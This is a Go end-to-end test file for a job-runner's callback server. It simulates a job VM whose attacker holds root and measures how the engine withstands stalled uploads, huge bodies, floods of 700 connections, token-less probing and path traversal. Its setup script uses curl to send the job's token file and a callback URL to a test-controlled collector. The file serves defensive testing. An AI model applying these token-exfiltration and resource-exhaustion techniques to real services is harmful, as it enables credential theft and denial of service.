package e2e

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"linus/internal/lab"
)

// hostage is a job in whose VM an attacker is root: who knows its token.
type hostage struct {
	*host
	c                *mcpClient
	id, token, where string // where: host:port of the callbacks
}

// takeHostage starts a job that leaves its token and ends when told to.
func takeHostage(t *testing.T, settings ...string) *hostage {
	t.Helper()
	h := newHost(t, lab.DriverProcess, settings...)
	l, c := newLedger(t), h.connect(t)
	manifest := script(fmt.Sprintf(`curl -fsS --data-binary @/run/linus/token %s/word/token
curl -fsS -d "$(sed -n s/^CALLBACK_URL=//p /opt/job-runner/settings)" %[1]s/word/url
read -r _
echo whole`, l.url))
	manifest["stdin"] = "open"
	v := &hostage{host: h, c: c, id: c.submit(manifest)}
	v.token, v.where = l.word(t, "token"), strings.TrimPrefix(l.word(t, "url"), "http://")
	c.until(v.id, func(j map[string]any) bool { return j["status"] == "running" })
	return v
}

// post sends a whole request to a route of the job.
func (v *hostage) post(t *testing.T, route, token, body string) (code int, answer string) {
	t.Helper()
	return v.send(t, http.MethodPost, "/callback/"+v.id+"/"+route, token, body)
}

func (v *hostage) send(t *testing.T, method, path, token, body string) (code int, answer string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, "http://"+v.where+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Errorf("%s %s: %v", method, path, err)
		return 0, ""
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Error(err)
	}
	return resp.StatusCode, string(data)
}

// stall opens so many connections, each of which sends text and then nothing.
// They are held until release.
func (v *hostage) stall(t *testing.T, n int, text string) (release func()) {
	t.Helper()
	var mu sync.Mutex
	var held []net.Conn
	var opening sync.WaitGroup
	for range n {
		opening.Go(func() {
			var dialer net.Dialer
			conn, err := dialer.DialContext(t.Context(), "tcp", v.where)
			if err != nil {
				t.Error(err)
				return
			}
			_ = conn.SetWriteDeadline(time.Now().Add(5 * time.Second)) // who is not read cannot send it all
			_, _ = io.WriteString(conn, text)
			mu.Lock()
			defer mu.Unlock()
			held = append(held, conn)
		})
	}
	opening.Wait()
	return sync.OnceFunc(func() {
		for _, conn := range held {
			_ = conn.Close()
		}
	})
}

// upload is the beginning of a request that says it has size bytes and brings sent.
func (v *hostage) upload(token, route string, size, sent int) string {
	return fmt.Sprintf("POST /callback/%s/%s HTTP/1.1\r\nHost: linus\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
		v.id, route, token, size, strings.Repeat("x", sent))
}

// ends lets the job end and checks that it did as if nothing had been.
func (v *hostage) ends(t *testing.T) {
	t.Helper()
	v.c.call("interact_with_job", map[string]any{"job_id": v.id, "input": "\n"})
	v.c.wait(v.id)
	if got := v.c.call("get_job_result", map[string]any{"job_id": v.id}); got["status"] != "success" || got["output"] != "whole\n" {
		t.Errorf("result %v", got)
	}
}

// submitTime has another client submit a job, and says how long that took.
func (v *hostage) submitTime(t *testing.T, other *mcpClient, while string) {
	t.Helper()
	began := time.Now()
	id := other.submit(script("true"))
	t.Logf("submit of another client during %s: %d ms", while, time.Since(began).Milliseconds())
	other.call("cancel_job", map[string]any{"job_id": id})
}

// peak is the most memory the engine has had, in MB.
func (h *host) peak(t *testing.T) int {
	t.Helper()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", h.engine()))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(status)) {
		if text, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, _ := strconv.Atoi(strings.Fields(text)[0])
			return kb >> 10
		}
	}
	t.Skip("this kernel does not tell VmHWM")
	return 0
}

// A hundred uploads that stall in the middle cost the engine next to nothing,
// with the job's token as without, and other clients notice nothing.
func TestHostileCallbacks_StalledUploads(t *testing.T) {
	t.Parallel()
	v := takeHostage(t)
	other := v.connect(t)
	t.Logf("engine's peak before: %d MB", v.peak(t))
	v.submitTime(t, other, "nothing")
	const piece = 900 << 10
	for _, stalled := range []struct{ name, token, route string }{
		{"100 stalled uploads without the token", strings.Repeat("0", 64), "output?stream=stdout&offset=0"},
		{"100 stalled uploads with the token", v.token, "output?stream=stdout&offset=1000000"},
		{"100 stalled reports with the token", v.token, "status"},
	} {
		size := 1 << 20
		if stalled.route == "status" {
			size = 64 << 10
		}
		release := v.stall(t, 100, v.upload(stalled.token, stalled.route, size, min(piece, size-1)))
		v.submitTime(t, other, stalled.name)
		release()
	}
	peak := v.peak(t)
	t.Logf("engine's peak after: %d MB", peak)
	if peak >= 100 {
		t.Errorf("the engine took %d MB", peak)
	}
	v.ends(t)
}

// A report of megabytes is refused, one that is let in is cut, and a flood of
// them leaves the job's answers short.
func TestHostileCallbacks_LongTexts(t *testing.T) {
	t.Parallel()
	v := takeHostage(t)
	other := v.connect(t)
	huge := strings.Repeat("x", 9_900_000)
	for route, body := range map[string]string{
		"status":   `{"progress":"` + huge + `"}`,
		"complete": `{"status":"failed","exit_code":1,"error":"` + huge + `"}`,
	} {
		if code, answer := v.post(t, route, v.token, body); code != http.StatusRequestEntityTooLarge {
			t.Errorf("%s of 9.9 MB: HTTP %d %s", route, code, answer)
		}
	}
	for _, exit := range []string{"256", "-1", "1000000000000"} {
		code, answer := v.post(t, "complete", v.token, `{"status":"failed","exit_code":`+exit+`}`)
		if code != http.StatusBadRequest || !strings.Contains(answer, "exit_code") {
			t.Errorf("exit code %s: HTTP %d %s", exit, code, answer)
		}
	}
	stop := make(chan struct{})
	var flood sync.WaitGroup
	long := `{"progress":"at ` + huge[:60_000] + `"}`
	for range 3 {
		flood.Go(func() {
			for {
				select {
				case <-stop:
					return
				default:
					if code, answer := v.post(t, "status", v.token, long); code != http.StatusOK && code != http.StatusServiceUnavailable {
						t.Errorf("a long report: HTTP %d %s", code, answer)
						return
					}
				}
			}
		})
	}
	v.submitTime(t, other, "a flood of long reports")
	j := v.c.until(v.id, func(j map[string]any) bool { text, _ := j["progress"].(string); return strings.HasPrefix(text, "at ") })
	close(stop)
	flood.Wait()
	if text := j["progress"].(string); len(text) > 4096 || !strings.Contains(text, " bytes cut] ") {
		t.Errorf("progress has %d bytes: %.100q", len(text), text)
	}
	v.ends(t)
	for route, body := range map[string]string{"status": "{}", "heartbeat": "", "complete": `{"status":"success","exit_code":0}`, "output?stream=stdout&offset=0": "x"} {
		if code, answer := v.post(t, route, v.token, body); code != http.StatusNotFound {
			t.Errorf("%s after the job's end: HTTP %d %s", route, code, answer)
		}
	}
}

// Who holds as many connections as there may be locks nobody out: the runner's
// reports go through, and so do those of others.
func TestHostileCallbacks_ManyConnections(t *testing.T) {
	t.Parallel()
	v := takeHostage(t)
	other := v.connect(t)
	defer v.stall(t, 600, "POST /callback/")()
	defer v.stall(t, 100, v.upload(v.token, "heartbeat", 100, 1))()
	for deadline := time.Now().Add(time.Minute); ; { // the job's own requests at once are bounded, too
		code, answer := v.post(t, "heartbeat", v.token, "")
		if code == http.StatusOK {
			break
		}
		if code != http.StatusServiceUnavailable || time.Now().After(deadline) {
			t.Fatalf("heartbeat: HTTP %d %s", code, answer)
		}
		time.Sleep(50 * time.Millisecond)
	}
	v.submitTime(t, other, "700 connections")
	id := other.submit(script("echo fine"))
	other.wait(id)
	if got := other.call("get_job_result", map[string]any{"job_id": id}); got["output"] != "fine\n" {
		t.Errorf("another job: %v", got)
	}
	v.ends(t)
}

// A user of this machine who has no token learns nothing, not even whether there
// is such a job.
func TestHostileCallbacks_LocalUser(t *testing.T) {
	t.Parallel()
	v := takeHostage(t)
	const nobody = "00000000-0000-7000-8000-000000000000"
	for _, route := range []string{"complete", "status", "heartbeat", "output?stream=stdout&offset=0"} {
		for _, token := range []string{"", "x", strings.Repeat("0", 64)} {
			code, answer := v.post(t, route, token, `{"status":"success","exit_code":0}`)
			other, same := v.send(t, http.MethodPost, "/callback/"+nobody+"/"+route, token, "{}")
			if (code != http.StatusUnauthorized && code != http.StatusNotFound) || code != other || answer != same {
				t.Errorf("%s with token %q: HTTP %d %s; for a job that is none: %d %s", route, token, code, answer, other, same)
			}
		}
	}
	for _, path := range []string{"/", "/metrics", "/jobs", "/mcp", "/callback", "/callback/" + v.id, "/debug/pprof/", "/callback/../jobs"} {
		if code, answer := v.send(t, http.MethodGet, path, v.token, ""); code != http.StatusNotFound && code != http.StatusMethodNotAllowed || strings.Contains(answer, v.id) {
			t.Errorf("GET %s: HTTP %d %s", path, code, answer)
		}
	}
	v.ends(t)
}

// What listens on this machine's loopback alone is not told to VMs as if they
// could reach it: their callbacks come through the SSH connection to that very
// address.
func TestCallbackHost_OfThisMachineAlone(t *testing.T) {
	t.Parallel()
	for _, listen := range []string{"127.0.0.5", "::1"} {
		t.Run(listen, func(t *testing.T) {
			t.Parallel()
			if l, err := net.Listen("tcp", net.JoinHostPort(listen, "0")); err != nil {
				t.Skip(err)
			} else {
				_ = l.Close()
			}
			v := takeHostage(t, "CALLBACK_HOST="+listen)
			if v.where != "tunnel.invalid" {
				t.Errorf("the VM was told %s", v.where)
			}
			v.c.until(v.id, func(j map[string]any) bool { return j["last_heartbeat"] != nil }) // a callback arrived
			v.ends(t)
		})
	}
}
